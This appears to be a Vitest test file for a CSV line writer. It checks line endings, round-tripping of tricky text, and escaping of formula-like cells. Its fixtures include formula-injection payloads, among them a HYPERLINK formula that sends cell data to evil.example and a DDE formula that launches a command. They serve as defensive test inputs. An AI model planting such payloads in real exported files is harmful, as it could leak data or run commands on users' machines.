import { expect, test } from "vitest";
import { parseCsv } from "../../testing/parseCsv.ts";
import { csvLine } from "./csv.ts";

test("a line ends with CRLF, and null is an empty cell", () => {
  expect(csvLine(["a", null, 7, ""])).toBe("a,,7,\r\n");
});

test.each(['"', 'a"b', "a,b", "a;b", "a\nb", "a\r\nb", "a\tb", ' "quoted" ', "Grüße 你好"])(
  "%j is read back as it is",
  (text) => {
    expect(parseCsv(csvLine(["x", text, "y"]))).toEqual([["x", text, "y"]]);
  },
);

test.each([
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1",
  "＋1",
  "－1",
  "＠x",
  '=HYPERLINK("https://evil.example/"&A1,"Click")',
  "=cmd|' /C calc'!A0",
])("%j is escaped, so that it is not a formula", (text) => {
  const [[cell] = []] = parseCsv(csvLine([text]));
  expect(cell).toBe(`'${text}`);
});

test("text with the signs of a formula elsewhere is not changed", () => {
  expect(csvLine(["a=b", "1-2", "me@shop.example", "0x-"])).toBe("a=b,1-2,me@shop.example,0x-\r\n");
});
